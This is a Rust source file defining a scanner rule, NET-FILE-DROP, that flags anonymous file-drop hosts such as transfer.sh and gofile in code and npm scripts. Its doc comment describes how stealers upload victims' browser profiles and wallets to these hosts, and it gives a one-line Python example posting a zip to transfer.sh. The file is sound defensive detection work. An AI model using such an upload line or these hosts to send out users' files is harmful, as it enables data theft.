use ossprey_model::{Category, Finding, Severity};
use ossprey_static::facts::text::ServiceClass;

use super::util::{
    context_severity, has_network_call, is_package_json, is_placeholder, service_mentions,
    text_fetches,
};
use crate::input::step;
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds an anonymous file-drop host (transfer.sh, file.io, gofile, anonfiles,
/// temp.sh, 0x0.st, catbox…) in a string of code or an npm lifecycle script.
///
/// ## Why is this bad?
/// File drops accept an upload from anyone and hand back a link: stealers zip the
/// victim's browser profiles, wallets and documents and upload them there, then post
/// the link to a webhook. Libraries do not upload their users' files to anonymous
/// hosts.
///
/// ## Example
/// ```python
/// link = requests.post("https://transfer.sh/", files={"f": open(zip_path, "rb")}).text
/// ```
#[derive(Debug)]
pub struct FileDrop;

impl Rule for FileDrop {
    fn id(&self) -> &'static str {
        "NET-FILE-DROP"
    }
    fn category(&self) -> Category {
        Category::EXFILTRATION
    }
    fn summary(&self) -> &'static str {
        "an anonymous file-drop host (transfer.sh, gofile, file.io, …) in code"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for m in service_mentions(input, &[ServiceClass::FileDrop]) {
            if is_placeholder(&m.rest) {
                continue;
            }
            // mega.nz is also an ordinary cloud drive; only a shared-file link counts.
            if m.entry == "mega.nz" {
                let r = m.rest.to_ascii_lowercase();
                if !(r.starts_with("/file/") || r.starts_with("/#!") || r.starts_with("/folder/")) {
                    continue;
                }
            }
            let fetches = text_fetches(&m.text)
                || is_package_json(m.file)
                || m.file.source.as_ref().is_none_or(has_network_call);
            let mut severity = context_severity(Severity::High, m.file);
            if !fetches {
                severity = step(severity, false);
            }
            out.push(finding(
                self.id(),
                severity,
                self.category(),
                format!("code uses `{}`, an anonymous file-drop host", m.host),
                Some(&m.file.path),
                Some(m.line),
                Some(&m.text),
            ));
        }
    }
}
